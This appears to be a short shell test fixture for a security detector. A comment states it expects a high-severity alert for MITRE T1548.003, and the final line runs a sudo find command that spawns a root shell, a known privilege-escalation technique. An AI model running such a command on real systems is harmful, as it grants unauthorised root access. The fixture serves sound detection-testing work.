# expects: high T1548.003
. "$STAGE/act.sh"
stand_in sudo
sudo find . -exec /bin/sh \; -quit
